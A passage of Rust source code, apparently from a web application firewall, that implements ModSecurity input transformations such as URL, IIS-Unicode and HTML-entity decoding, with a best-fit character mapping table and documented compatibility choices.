//! ModSecurity transformation functions (the `t:` actions).
//!
//! Every function works on raw bytes and follows libmodsecurity v3 (which
//! agrees with ModSecurity 2.9 for almost everything), because the OWASP CRS
//! regression tests were written against those engines. Where v2 and v3
//! disagree, or where both have a plain bug, the choice made here is
//! documented on the function (look for "v2:", "v3:" and "Deviation:").
//!
//! Contract of [`Transform::apply`]: `None` means "the output equals the
//! input" (no allocation on that path), `Some(v)` always holds a value that
//! differs from the input. No function panics, whatever the input, and all
//! of them run in time linear in the input length.

use memchr::{memchr, memchr2, memmem};

/// One ModSecurity transformation (`t:name`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Transform {
    None,
    Lowercase,
    Uppercase,
    UrlDecode,
    UrlDecodeUni,
    UrlEncode,
    HtmlEntityDecode,
    JsDecode,
    CssDecode,
    CmdLine,
    Utf8ToUnicode,
    NormalizePath,
    NormalizePathWin,
    RemoveNulls,
    ReplaceNulls,
    ReplaceComments,
    RemoveComments,
    RemoveCommentsChar,
    Base64Decode,
    Base64DecodeExt,
    Base64Encode,
    HexDecode,
    HexEncode,
    SqlHexDecode,
    Sha1,
    Md5,
    Length,
    CompressWhitespace,
    RemoveWhitespace,
    EscapeSeqDecode,
    Trim,
    TrimLeft,
    TrimRight,
    ParityEven7bit,
    ParityOdd7bit,
    ParityZero7bit,
}

/// Classes of bytes that make a transformation do something. A value
/// whose [`byte_flags`] share no bit with a chain's triggers is left
/// unchanged by the whole chain (each step sees the same value), so the
/// engine skips the chain without running or caching it.
pub mod flags {
    pub const UPPER: u32 = 1;
    pub const LOWER: u32 = 1 << 1;
    pub const PERCENT_PLUS: u32 = 1 << 2;
    pub const AMP: u32 = 1 << 3;
    pub const BACKSLASH: u32 = 1 << 4;
    pub const NUL: u32 = 1 << 5;
    pub const SPACE: u32 = 1 << 6;
    pub const NON_ASCII: u32 = 1 << 7;
    pub const SLASH_DOT: u32 = 1 << 8;
    pub const COMMENT: u32 = 1 << 9;
    pub const CMDLINE: u32 = 1 << 10;
    pub const CONTROL: u32 = 1 << 11;
    /// Triggered by anything (the transformation may change any value).
    pub const ALWAYS: u32 = u32::MAX;
}

const fn class_of(b: u8) -> u32 {
    use flags::*;
    match b {
        b'A'..=b'Z' => UPPER,
        b'a'..=b'z' => LOWER,
        b'%' | b'+' => PERCENT_PLUS,
        b'&' => AMP,
        b'\\' => BACKSLASH,
        0 => NUL,
        b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r' => SPACE,
        0x80..=0xff => NON_ASCII,
        b'/' => SLASH_DOT | COMMENT,
        b'.' => SLASH_DOT,
        b'-' | b'#' | b'*' => COMMENT,
        b'"' | b'\'' | b'^' | b',' | b';' | b'(' => CMDLINE,
        0x01..=0x1f | 0x7f => CONTROL,
        _ => 0,
    }
}

const BYTE_CLASS: [u32; 256] = {
    let mut t = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        t[i] = class_of(i as u8);
        i += 1;
    }
    t
};

/// The union of the byte classes present in `value`.
pub fn byte_flags(value: &[u8]) -> u32 {
    value.iter().fold(0, |acc, &b| acc | BYTE_CLASS[b as usize])
}

impl Transform {
    /// The byte classes whose presence may make this transformation change
    /// a value (conservative: `ALWAYS` when unsure).
    pub fn trigger_mask(self) -> u32 {
        use flags::*;
        match self {
            Transform::None => 0,
            Transform::Lowercase => UPPER,
            Transform::Uppercase => LOWER,
            Transform::UrlDecode | Transform::UrlDecodeUni => PERCENT_PLUS,
            Transform::HtmlEntityDecode => AMP,
            Transform::JsDecode | Transform::CssDecode | Transform::EscapeSeqDecode => BACKSLASH,
            Transform::CmdLine => UPPER | BACKSLASH | CMDLINE | SPACE,
            Transform::Utf8ToUnicode => NON_ASCII | NUL,
            Transform::NormalizePath => SLASH_DOT,
            Transform::NormalizePathWin => SLASH_DOT | BACKSLASH,
            Transform::RemoveNulls | Transform::ReplaceNulls => NUL,
            Transform::ReplaceComments => COMMENT,
            Transform::CompressWhitespace | Transform::RemoveWhitespace => SPACE | NON_ASCII,
            Transform::Trim | Transform::TrimLeft | Transform::TrimRight => {
                SPACE | NON_ASCII | CONTROL | NUL
            }
            _ => ALWAYS,
        }
    }
}

/// Accepted spellings (matched case-insensitively). The first spelling of
/// each transformation is its canonical [`Transform::name`].
const NAMES: &[(&str, Transform)] = &[
    ("none", Transform::None),
    ("lowercase", Transform::Lowercase),
    ("uppercase", Transform::Uppercase),
    ("urlDecode", Transform::UrlDecode),
    ("urlDecodeUni", Transform::UrlDecodeUni),
    ("urlEncode", Transform::UrlEncode),
    ("htmlEntityDecode", Transform::HtmlEntityDecode),
    ("jsDecode", Transform::JsDecode),
    ("cssDecode", Transform::CssDecode),
    ("cmdLine", Transform::CmdLine),
    ("utf8toUnicode", Transform::Utf8ToUnicode),
    ("normalizePath", Transform::NormalizePath),
    ("normalisePath", Transform::NormalizePath),
    ("normalizePathWin", Transform::NormalizePathWin),
    ("normalisePathWin", Transform::NormalizePathWin),
    ("removeNulls", Transform::RemoveNulls),
    ("replaceNulls", Transform::ReplaceNulls),
    ("replaceComments", Transform::ReplaceComments),
    ("removeComments", Transform::RemoveComments),
    ("removeCommentsChar", Transform::RemoveCommentsChar),
    ("base64Decode", Transform::Base64Decode),
    ("base64DecodeExt", Transform::Base64DecodeExt),
    ("base64Encode", Transform::Base64Encode),
    ("hexDecode", Transform::HexDecode),
    ("hexEncode", Transform::HexEncode),
    ("sqlHexDecode", Transform::SqlHexDecode),
    ("sha1", Transform::Sha1),
    ("md5", Transform::Md5),
    ("length", Transform::Length),
    ("compressWhitespace", Transform::CompressWhitespace),
    ("removeWhitespace", Transform::RemoveWhitespace),
    ("escapeSeqDecode", Transform::EscapeSeqDecode),
    ("trim", Transform::Trim),
    ("trimLeft", Transform::TrimLeft),
    ("trimRight", Transform::TrimRight),
    ("parityEven7bit", Transform::ParityEven7bit),
    ("parityOdd7bit", Transform::ParityOdd7bit),
    ("parityZero7bit", Transform::ParityZero7bit),
];

impl Transform {
    /// Every transformation, in declaration order.
    pub const ALL: &'static [Transform] = &[
        Transform::None,
        Transform::Lowercase,
        Transform::Uppercase,
        Transform::UrlDecode,
        Transform::UrlDecodeUni,
        Transform::UrlEncode,
        Transform::HtmlEntityDecode,
        Transform::JsDecode,
        Transform::CssDecode,
        Transform::CmdLine,
        Transform::Utf8ToUnicode,
        Transform::NormalizePath,
        Transform::NormalizePathWin,
        Transform::RemoveNulls,
        Transform::ReplaceNulls,
        Transform::ReplaceComments,
        Transform::RemoveComments,
        Transform::RemoveCommentsChar,
        Transform::Base64Decode,
        Transform::Base64DecodeExt,
        Transform::Base64Encode,
        Transform::HexDecode,
        Transform::HexEncode,
        Transform::SqlHexDecode,
        Transform::Sha1,
        Transform::Md5,
        Transform::Length,
        Transform::CompressWhitespace,
        Transform::RemoveWhitespace,
        Transform::EscapeSeqDecode,
        Transform::Trim,
        Transform::TrimLeft,
        Transform::TrimRight,
        Transform::ParityEven7bit,
        Transform::ParityOdd7bit,
        Transform::ParityZero7bit,
    ];

    /// Case-insensitive name as written after `t:` (e.g. "urlDecodeUni",
    /// "base64decode"). Both `normalize*` and `normalise*` spellings are
    /// accepted. `None` = unknown transformation.
    pub fn from_name(name: &str) -> Option<Transform> {
        NAMES
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|&(_, t)| t)
    }

    /// Canonical ModSecurity spelling.
    pub fn name(self) -> &'static str {
        match self {
            Transform::None => "none",
            Transform::Lowercase => "lowercase",
            Transform::Uppercase => "uppercase",
            Transform::UrlDecode => "urlDecode",
            Transform::UrlDecodeUni => "urlDecodeUni",
            Transform::UrlEncode => "urlEncode",
            Transform::HtmlEntityDecode => "htmlEntityDecode",
            Transform::JsDecode => "jsDecode",
            Transform::CssDecode => "cssDecode",
            Transform::CmdLine => "cmdLine",
            Transform::Utf8ToUnicode => "utf8toUnicode",
            Transform::NormalizePath => "normalizePath",
            Transform::NormalizePathWin => "normalizePathWin",
            Transform::RemoveNulls => "removeNulls",
            Transform::ReplaceNulls => "replaceNulls",
            Transform::ReplaceComments => "replaceComments",
            Transform::RemoveComments => "removeComments",
            Transform::RemoveCommentsChar => "removeCommentsChar",
            Transform::Base64Decode => "base64Decode",
            Transform::Base64DecodeExt => "base64DecodeExt",
            Transform::Base64Encode => "base64Encode",
            Transform::HexDecode => "hexDecode",
            Transform::HexEncode => "hexEncode",
            Transform::SqlHexDecode => "sqlHexDecode",
            Transform::Sha1 => "sha1",
            Transform::Md5 => "md5",
            Transform::Length => "length",
            Transform::CompressWhitespace => "compressWhitespace",
            Transform::RemoveWhitespace => "removeWhitespace",
            Transform::EscapeSeqDecode => "escapeSeqDecode",
            Transform::Trim => "trim",
            Transform::TrimLeft => "trimLeft",
            Transform::TrimRight => "trimRight",
            Transform::ParityEven7bit => "parityEven7bit",
            Transform::ParityOdd7bit => "parityOdd7bit",
            Transform::ParityZero7bit => "parityZero7bit",
        }
    }

    /// Apply to input. Returns `None` when the output equals the input (no
    /// allocation on the common path), `Some(new)` otherwise.
    pub fn apply(self, input: &[u8]) -> Option<Vec<u8>> {
        match self {
            Transform::None => None,
            Transform::Lowercase => lowercase(input),
            Transform::Uppercase => uppercase(input),
            Transform::UrlDecode => url_decode(input),
            Transform::UrlDecodeUni => url_decode_uni(input, true),
            Transform::UrlEncode => url_encode(input),
            Transform::HtmlEntityDecode => html_entity_decode(input),
            Transform::JsDecode => js_decode(input),
            Transform::CssDecode => css_decode(input),
            Transform::CmdLine => cmd_line(input),
            Transform::Utf8ToUnicode => utf8_to_unicode(input),
            Transform::NormalizePath => normalize_path(input, false),
            Transform::NormalizePathWin => normalize_path(input, true),
            Transform::RemoveNulls => remove_nulls(input),
            Transform::ReplaceNulls => replace_nulls(input),
            Transform::ReplaceComments => replace_comments(input),
            Transform::RemoveComments => remove_comments(input),
            Transform::RemoveCommentsChar => remove_comments_char(input),
            Transform::Base64Decode => base64_decode(input),
            Transform::Base64DecodeExt => base64_decode_ext(input),
            Transform::Base64Encode => base64_encode(input),
            Transform::HexDecode => hex_decode(input),
            Transform::HexEncode => hex_encode(input),
            Transform::SqlHexDecode => sql_hex_decode(input),
            Transform::Sha1 => changed(
                input,
                sha1_smol::Sha1::from(input).digest().bytes().to_vec(),
            ),
            Transform::Md5 => changed(input, md5(input).to_vec()),
            Transform::Length => length(input),
            Transform::CompressWhitespace => compress_whitespace(input),
            Transform::RemoveWhitespace => remove_whitespace(input),
            Transform::EscapeSeqDecode => escape_seq_decode(input),
            Transform::Trim => trim(input, true, true),
            Transform::TrimLeft => trim(input, true, false),
            Transform::TrimRight => trim(input, false, true),
            Transform::ParityEven7bit => parity(input, Parity::Even),
            Transform::ParityOdd7bit => parity(input, Parity::Odd),
            Transform::ParityZero7bit => parity(input, Parity::Zero),
        }
    }
}

// ---------------------------------------------------------------------------
// Small helpers
// ---------------------------------------------------------------------------

/// `Some(out)` unless `out` equals `input`.
#[inline]
fn changed(input: &[u8], out: Vec<u8>) -> Option<Vec<u8>> {
    if out.as_slice() == input {
        None
    } else {
        Some(out)
    }
}

/// C `isspace()` in the "C" locale.
#[inline]
fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r')
}

#[inline]
fn is_hex(b: u8) -> bool {
    b.is_ascii_hexdigit()
}

#[inline]
fn is_odigit(b: u8) -> bool {
    (b'0'..=b'7').contains(&b)
}

/// Value of a hex digit, `None` if `b` is not one.
#[inline]
fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// ModSecurity's `xsingle2c`: no validation, wrapping arithmetic. Only
/// `hexDecode` ever feeds it non-hex bytes (and its test vectors depend on
/// the resulting garbage values).
#[inline]
fn xsingle2c(c: u8) -> u8 {
    if c >= b'A' {
        (c & 0xdf).wrapping_sub(b'A').wrapping_add(10)
    } else {
        c.wrapping_sub(b'0')
    }
}

/// ModSecurity's `x2c`: two (unvalidated) hex digits to one byte.
#[inline]
fn x2c(hi: u8, lo: u8) -> u8 {
    xsingle2c(hi).wrapping_mul(16).wrapping_add(xsingle2c(lo))
}

/// `true` for 'f' or 'F' (full-width check of `%uFFxx` style escapes).
#[inline]
fn is_f(b: u8) -> bool {
    b == b'f' || b == b'F'
}

/// Full-width ASCII (U+FF01..U+FF5E) folding used by urlDecodeUni, jsDecode
/// and cssDecode: when the high byte is `ff`, the low byte gets 0x20 added.
#[inline]
fn full_width(low: u8, hi1: u8, hi2: u8) -> u8 {
    if low > 0x00 && low < 0x5f && is_f(hi1) && is_f(hi2) {
        low + 0x20
    } else {
        low
    }
}

/// Byte at `i`, or 0 past the end (emulates reading the NUL terminator of a
/// C string, which several ModSecurity functions rely on).
#[inline]
fn at(input: &[u8], i: usize) -> u8 {
    input.get(i).copied().unwrap_or(0)
}

/// Lowercase hex digit.
#[inline]
fn hex_digit(v: u8) -> u8 {
    b"0123456789abcdef"[usize::from(v & 0x0f)]
}

// ---------------------------------------------------------------------------
// Case
// ---------------------------------------------------------------------------

/// `t:lowercase`: ASCII only ("C" locale `tolower`).
fn lowercase(input: &[u8]) -> Option<Vec<u8>> {
    let pos = input.iter().position(u8::is_ascii_uppercase)?;
    let mut out = input.to_vec();
    if let Some(tail) = out.get_mut(pos..) {
        tail.make_ascii_lowercase();
    }
    Some(out)
}

/// `t:uppercase`: ASCII only.
fn uppercase(input: &[u8]) -> Option<Vec<u8>> {
    let pos = input.iter().position(u8::is_ascii_lowercase)?;
    let mut out = input.to_vec();
    if let Some(tail) = out.get_mut(pos..) {
        tail.make_ascii_uppercase();
    }
    Some(out)
}

// ---------------------------------------------------------------------------
// URL encoding
// ---------------------------------------------------------------------------

/// Copies the run of bytes starting at `i` up to the next `%` or `+` and
/// returns the index where the run stopped.
#[inline]
fn copy_until_pct_plus(input: &[u8], i: usize, out: &mut Vec<u8>) -> usize {
    let rest = input.get(i..).unwrap_or_default();
    let len = memchr2(b'%', b'+', rest).unwrap_or(rest.len());
    out.extend_from_slice(&rest[..len]);
    i + len
}

/// `t:urlDecode`: `%HH` (both digits valid) and `+` → space. Invalid or
/// truncated `%` sequences are kept as they are.
fn url_decode(input: &[u8]) -> Option<Vec<u8>> {
    let first = memchr2(b'%', b'+', input)?;
    let mut out = Vec::with_capacity(input.len());
    out.extend_from_slice(&input[..first]);
    let mut changed = false;
    let mut i = first;
    while i < input.len() {
        match input[i] {
            b'%' => {
                if let (Some(h), Some(l)) = (hex_val(at(input, i + 1)), hex_val(at(input, i + 2))) {
                    out.push(h << 4 | l);
                    i += 3;
                    changed = true;
                } else {
                    out.push(b'%');
                    i += 1;
                }
            }
            b'+' => {
                out.push(b' ');
                i += 1;
                changed = true;
            }
            _ => i = copy_until_pct_plus(input, i, &mut out),
        }
    }
    changed.then_some(out)
}

/// `t:urlDecodeUni`: like urlDecode, plus IIS-style `%uHHHH`.
///
/// A `%uHHHH` escape decodes to one byte: with `best_fit` (what
/// [`Transform::apply`] uses) the code point is first looked up in the
/// codepage 20127 (US-ASCII) best-fit table of ModSecurity's
/// `unicode.mapping` (plus the four full stops libmodsecurity always adds),
/// i.e. the behaviour of `SecUnicodeMapFile unicode.mapping 20127` from
/// ModSecurity's recommended `modsecurity.conf`, the setup CRS is normally
/// tested with (recent Coraza does the same). Code points without a mapping, or all of them when
/// `best_fit` is false (ModSecurity with no map file, which is what its unit
/// tests exercise), use the low byte, with full-width ASCII U+FF01..U+FF5E
/// folded to 0x21..0x7E. Invalid or truncated escapes are kept as they are.
pub fn url_decode_uni(input: &[u8], best_fit: bool) -> Option<Vec<u8>> {
    let first = memchr2(b'%', b'+', input)?;
    let mut out = Vec::with_capacity(input.len());
    out.extend_from_slice(&input[..first]);
    let mut changed = false;
    let mut i = first;
    let n = input.len();
    while i < n {
        match input[i] {
            b'%' => {
                let next = at(input, i + 1);
                if i + 1 < n && (next == b'u' || next == b'U') {
                    // IIS-specific %uHHHH: needs 4 more bytes, all hex.
                    let digits = input.get(i + 2..i + 6).unwrap_or_default();
                    if digits.len() == 4 && digits.iter().all(|&b| is_hex(b)) {
                        let code = digits.iter().fold(0u32, |acc, &b| {
                            acc << 4 | u32::from(hex_val(b).unwrap_or(0))
                        });
                        let mapped = if best_fit { best_fit_ascii(code) } else { None };
                        out.push(match mapped {
                            Some(b) => b,
                            None => full_width(x2c(digits[2], digits[3]), digits[0], digits[1]),
                        });
                        i += 6;
                        changed = true;
                    } else {
                        // Invalid or truncated: keep "%u" as is.
                        out.push(b'%');
                        out.push(next);
                        i += 2;
                    }
                } else if let (true, Some(h), Some(l)) =
                    (i + 2 < n, hex_val(next), hex_val(at(input, i + 2)))
                {
                    out.push(h << 4 | l);
                    i += 3;
                    changed = true;
                } else {
                    out.push(b'%');
                    i += 1;
                }
            }
            b'+' => {
                out.push(b' ');
                i += 1;
                changed = true;
            }
            _ => i = copy_until_pct_plus(input, i, &mut out),
        }
    }
    changed.then_some(out)
}

/// Best-fit mapping of a UTF-16 code point to one ASCII byte.
fn best_fit_ascii(code: u32) -> Option<u8> {
    let code = u16::try_from(code).ok()?;
    BEST_FIT_20127
        .binary_search_by_key(&code, |&(c, _)| c)
        .ok()
        .map(|idx| BEST_FIT_20127[idx].1)
}

/// Codepage 20127 (US-ASCII) section of ModSecurity's `unicode.mapping`
/// (data, sorted by code point), plus U+002E, U+3002, U+FF0E and U+FF61 →
/// '.' which libmodsecurity adds whenever a map file is loaded (RFC 3490
/// full stops).
#[rustfmt::skip]
static BEST_FIT_20127: &[(u16, u8)] = &[
    (0x002e, 0x2e), (0x00a0, 0x20), (0x00a1, 0x21), (0x00a2, 0x63), (0x00a4, 0x24),
    (0x00a5, 0x59), (0x00a6, 0x7c), (0x00a9, 0x43), (0x00aa, 0x61), (0x00ab, 0x3c),
    (0x00ad, 0x2d), (0x00ae, 0x52), (0x00b2, 0x32), (0x00b3, 0x33), (0x00b7, 0x2e),
    (0x00b8, 0x2c), (0x00b9, 0x31), (0x00ba, 0x6f), (0x00bb, 0x3e), (0x00c0, 0x41),
    (0x00c1, 0x41), (0x00c2, 0x41), (0x00c3, 0x41), (0x00c4, 0x41), (0x00c5, 0x41),
    (0x00c6, 0x41), (0x00c7, 0x43), (0x00c8, 0x45), (0x00c9, 0x45), (0x00ca, 0x45),
    (0x00cb, 0x45), (0x00cc, 0x49), (0x00cd, 0x49), (0x00ce, 0x49), (0x00cf, 0x49),
    (0x00d0, 0x44), (0x00d1, 0x4e), (0x00d2, 0x4f), (0x00d3, 0x4f), (0x00d4, 0x4f),
    (0x00d5, 0x4f), (0x00d6, 0x4f), (0x00d8, 0x4f), (0x00d9, 0x55), (0x00da, 0x55),
    (0x00db, 0x55), (0x00dc, 0x55), (0x00dd, 0x59), (0x00e0, 0x61), (0x00e1, 0x61),
    (0x00e2, 0x61), (0x00e3, 0x61), (0x00e4, 0x61), (0x00e5, 0x61), (0x00e6, 0x61),
    (0x00e7, 0x63), (0x00e8, 0x65), (0x00e9, 0x65), (0x00ea, 0x65), (0x00eb, 0x65),
    (0x00ec, 0x69), (0x00ed, 0x69), (0x00ee, 0x69), (0x00ef, 0x69), (0x00f1, 0x6e),
    (0x00f2, 0x6f), (0x00f3, 0x6f), (0x00f4, 0x6f), (0x00f5, 0x6f), (0x00f6, 0x6f),
    (0x00f8, 0x6f), (0x00f9, 0x75), (0x00fa, 0x75), (0x00fb, 0x75), (0x00fc, 0x75),
    (0x00fd, 0x79), (0x00ff, 0x79), (0x0100, 0x41), (0x0101, 0x61), (0x0102, 0x41),
    (0x0103, 0x61), (0x0104, 0x41), (0x0105, 0x61), (0x0106, 0x43), (0x0107, 0x63),
    (0x0108, 0x43), (0x0109, 0x63), (0x010a, 0x43), (0x010b, 0x63), (0x010c, 0x43),
    (0x010d, 0x63), (0x010e, 0x44), (0x010f, 0x64), (0x0110, 0x44), (0x0111, 0x64),
    (0x0112, 0x45), (0x0113, 0x65), (0x0114, 0x45), (0x0115, 0x65), (0x0116, 0x45),
    (0x0117, 0x65), (0x0118, 0x45), (0x0119, 0x65), (0x011a, 0x45), (0x011b, 0x65),
    (0x011c, 0x47), (0x011d, 0x67), (0x011e, 0x47), (0x011f, 0x67), (0x0120, 0x47),
    (0x0121, 0x67), (0x0122, 0x47), (0x0123, 0x67), (0x0124, 0x48), (0x0125, 0x68),
    (0x0126, 0x48), (0x0127, 0x68), (0x0128, 0x49), (0x0129, 0x69), (0x012a, 0x49),
    (0x012b, 0x69), (0x012c, 0x49), (0x012d, 0x69), (0x012e, 0x49), (0x012f, 0x69),
    (0x0130, 0x49), (0x0131, 0x69), (0x0134, 0x4a), (0x0135, 0x6a), (0x0136, 0x4b),
    (0x0137, 0x6b), (0x0139, 0x4c), (0x013a, 0x6c), (0x013b, 0x4c), (0x013c, 0x6c),
    (0x013d, 0x4c), (0x013e, 0x6c), (0x0141, 0x4c), (0x0142, 0x6c), (0x0143, 0x4e),
    (0x0144, 0x6e), (0x0145, 0x4e), (0x0146, 0x6e), (0x0147, 0x4e), (0x0148, 0x6e),
    (0x014c, 0x4f), (0x014d, 0x6f), (0x014e, 0x4f), (0x014f, 0x6f), (0x0150, 0x4f),
    (0x0151, 0x6f), (0x0152, 0x4f), (0x0153, 0x6f), (0x0154, 0x52), (0x0155, 0x72),
    (0x0156, 0x52), (0x0157, 0x72), (0x0158, 0x52), (0x0159, 0x72), (0x015a, 0x53),
    (0x015b, 0x73), (0x015c, 0x53), (0x015d, 0x73), (0x015e, 0x53), (0x015f, 0x73),
    (0x0160, 0x53), (0x0161, 0x73), (0x0162, 0x54), (0x0163, 0x74), (0x0164, 0x54),
    (0x0165, 0x74), (0x0166, 0x54), (0x0167, 0x74), (0x0168, 0x55), (0x0169, 0x75),
    (0x016a, 0x55), (0x016b, 0x75), (0x016c, 0x55), (0x016d, 0x75), (0x016e, 0x55),
    (0x016f, 0x75), (0x0170, 0x55), (0x0171, 0x75), (0x0172, 0x55), (0x0173, 0x75),
    (0x0174, 0x57), (0x0175, 0x77), (0x0176, 0x59), (0x0177, 0x79), (0x0178, 0x59),
    (0x0179, 0x5a), (0x017b, 0x5a), (0x017c, 0x7a), (0x017d, 0x5a), (0x017e, 0x7a),
    (0x0180, 0x62), (0x0189, 0x44), (0x0191, 0x46), (0x0192, 0x66), (0x0197, 0x49),
    (0x019a, 0x6c), (0x019f, 0x4f), (0x01a0, 0x4f), (0x01a1, 0x6f), (0x01ab, 0x74),
    (0x01ae, 0x54), (0x01af, 0x55), (0x01b0, 0x75), (0x01b6, 0x7a), (0x01cd, 0x41),
    (0x01ce, 0x61), (0x01cf, 0x49), (0x01d0, 0x69), (0x01d1, 0x4f), (0x01d2, 0x6f),
    (0x01d3, 0x55), (0x01d4, 0x75), (0x01d5, 0x55), (0x01d6, 0x75), (0x01d7, 0x55),
    (0x01d8, 0x75), (0x01d9, 0x55), (0x01da, 0x75), (0x01db, 0x55), (0x01dc, 0x75),
    (0x01de, 0x41), (0x01df, 0x61), (0x01e4, 0x47), (0x01e5, 0x67), (0x01e6, 0x47),
    (0x01e7, 0x67), (0x01e8, 0x4b), (0x01e9, 0x6b), (0x01ea, 0x4f), (0x01eb, 0x6f),
    (0x01ec, 0x4f), (0x01ed, 0x6f), (0x01f0, 0x6a), (0x0261, 0x67), (0x02b9, 0x27),
    (0x02ba, 0x22), (0x02bc, 0x27), (0x02c4, 0x5e), (0x02c6, 0x5e), (0x02c8, 0x27),
    (0x02cb, 0x60), (0x02cd, 0x5f), (0x02dc, 0x7e), (0x0300, 0x60), (0x0302, 0x5e),
    (0x0303, 0x7e), (0x030e, 0x22), (0x0331, 0x5f), (0x0332, 0x5f), (0x2000, 0x20),
    (0x2001, 0x20), (0x2002, 0x20), (0x2003, 0x20), (0x2004, 0x20), (0x2005, 0x20),
    (0x2006, 0x20), (0x2010, 0x2d), (0x2011, 0x2d), (0x2013, 0x2d), (0x2014, 0x2d),
    (0x2018, 0x27), (0x2019, 0x27), (0x201a, 0x2c), (0x201c, 0x22), (0x201d, 0x22),
    (0x201e, 0x22), (0x2022, 0x2e), (0x2026, 0x2e), (0x2032, 0x27), (0x2035, 0x60),
    (0x2039, 0x3c), (0x203a, 0x3e), (0x2122, 0x54), (0x3002, 0x2e), (0xff01, 0x21),
    (0xff02, 0x22), (0xff03, 0x23), (0xff04, 0x24), (0xff05, 0x25), (0xff06, 0x26),
    (0xff07, 0x27), (0xff08, 0x28), (0xff09, 0x29), (0xff0a, 0x2a), (0xff0b, 0x2b),
    (0xff0c, 0x2c), (0xff0d, 0x2d), (0xff0e, 0x2e), (0xff0f, 0x2f), (0xff10, 0x30),
    (0xff11, 0x31), (0xff12, 0x32), (0xff13, 0x33), (0xff14, 0x34), (0xff15, 0x35),
    (0xff16, 0x36), (0xff17, 0x37), (0xff18, 0x38), (0xff19, 0x39), (0xff1a, 0x3a),
    (0xff1b, 0x3b), (0xff1c, 0x3c), (0xff1d, 0x3d), (0xff1e, 0x3e), (0xff20, 0x40),
    (0xff21, 0x41), (0xff22, 0x42), (0xff23, 0x43), (0xff24, 0x44), (0xff25, 0x45),
    (0xff26, 0x46), (0xff27, 0x47), (0xff28, 0x48), (0xff29, 0x49), (0xff2a, 0x4a),
    (0xff2b, 0x4b), (0xff2c, 0x4c), (0xff2d, 0x4d), (0xff2e, 0x4e), (0xff2f, 0x4f),
    (0xff30, 0x50), (0xff31, 0x51), (0xff32, 0x52), (0xff33, 0x53), (0xff34, 0x54),
    (0xff35, 0x55), (0xff36, 0x56), (0xff37, 0x57), (0xff38, 0x58), (0xff39, 0x59),
    (0xff3a, 0x5a), (0xff3b, 0x5b), (0xff3c, 0x5c), (0xff3d, 0x5d), (0xff3e, 0x5e),
    (0xff3f, 0x5f), (0xff40, 0x60), (0xff41, 0x61), (0xff42, 0x62), (0xff43, 0x63),
    (0xff44, 0x64), (0xff45, 0x65), (0xff46, 0x66), (0xff47, 0x67), (0xff48, 0x68),
    (0xff49, 0x69), (0xff4a, 0x6a), (0xff4b, 0x6b), (0xff4c, 0x6c), (0xff4d, 0x6d),
    (0xff4e, 0x6e), (0xff4f, 0x6f), (0xff50, 0x70), (0xff51, 0x71), (0xff52, 0x72),
    (0xff53, 0x73), (0xff54, 0x74), (0xff55, 0x75), (0xff56, 0x76), (0xff57, 0x77),
    (0xff58, 0x78), (0xff59, 0x79), (0xff5a, 0x7a), (0xff5b, 0x7b), (0xff5c, 0x7c),
    (0xff5d, 0x7d), (0xff5e, 0x7e), (0xff61, 0x2e),
];

/// `t:urlEncode`: everything but `[A-Za-z0-9*]` becomes `%hh` (lowercase),
/// space becomes `+`.
fn url_encode(input: &[u8]) -> Option<Vec<u8>> {
    let keep = |c: u8| c == b'*' || c.is_ascii_alphanumeric();
    let first = input.iter().position(|&c| !keep(c))?;
    let mut out = Vec::with_capacity(input.len() * 3);
    out.extend_from_slice(&input[..first]);
    for &c in &input[first..] {
        if c == b' ' {
            out.push(b'+');
        } else if keep(c) {
            out.push(c);
        } else {
            out.extend_from_slice(&[b'%', hex_digit(c >> 4), hex_digit(c)]);
        }
    }
    Some(out)
}

// ---------------------------------------------------------------------------
// HTML / JavaScript / CSS / C escapes
// ---------------------------------------------------------------------------

/// C `strtol()` on a run of valid digits, truncated to a byte as ModSecurity
/// does (`(unsigned char)strtol(...)`). On overflow strtol saturates at
/// `LONG_MAX`, whose low byte is 0xff.
fn strtol_low_byte(digits: &[u8], radix: u32) -> u8 {
    let mut v: u64 = 0;
    for &d in digits {
        let dv = u64::from(char::from(d).to_digit(radix).unwrap_or(0));
        v = v.saturating_mul(u64::from(radix)).saturating_add(dv);
        if v > i64::MAX as u64 {
            return 0xff;
        }
    }
    v as u8
}

/// Index after an optional `;` at `j`.
#[inline]
fn skip_semicolon(input: &[u8], j: usize) -> usize {
    if input.get(j) == Some(&b';') {
        j + 1
    } else {
        j
    }
}

/// `t:htmlEntityDecode`: `&#DDD;`, `&#xHH;` (the `;` is optional, any
/// number of digits, value truncated to one byte) and the named entities
/// `&quot;` `&amp;` `&lt;` `&gt;` `&nbsp;` (case-insensitive; `&nbsp;` → 0xA0).
/// Anything else (including `&apos;`) is left alone.
///
/// v3: libmodsecurity 3.0.13 briefly capped numeric entities at 2 hex / 3
/// decimal digits and matched entity names as prefixes of the alphanumeric
/// run; the digit cap was a bypass (CVE-2025-27110, fixed in 3.0.14). This
/// follows ModSecurity 2.9 / libmodsecurity 3.0.12 and 3.0.14: unlimited
/// digits and exact (case-insensitive) names.
fn html_entity_decode(input: &[u8]) -> Option<Vec<u8>> {
    let first = memchr(b'&', input)?;
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    out.extend_from_slice(&input[..first]);
    let mut changed = false;
    let mut i = first;
    while i < n {
        if input[i] != b'&' {
            let len = memchr(b'&', &input[i..]).unwrap_or(n - i);
            out.extend_from_slice(&input[i..i + len]);
            i += len;
            continue;
        }
        // Number of raw bytes to copy when this is not a decodable entity.
        let mut copy = 1;
        if i + 1 < n {
            let mut j = i + 1;
            if input[j] == b'#' {
                copy = 2;
                if j + 1 < n {
                    j += 1;
                    let radix = if input[j] == b'x' || input[j] == b'X' {
                        copy = 3;
                        j += 1;
                        16
                    } else {
                        10
                    };
                    let k = j;
                    while j < n
                        && (if radix == 16 {
                            is_hex(input[j])
                        } else {
                            input[j].is_ascii_digit()
                        })
                    {
                        j += 1;
                    }
                    if j > k {
                        out.push(strtol_low_byte(&input[k..j], radix));
                        i = skip_semicolon(input, j);
                        changed = true;
                        continue;
                    }
                }
            } else {
                let k = j;
                while j < n && input[j].is_ascii_alphanumeric() {
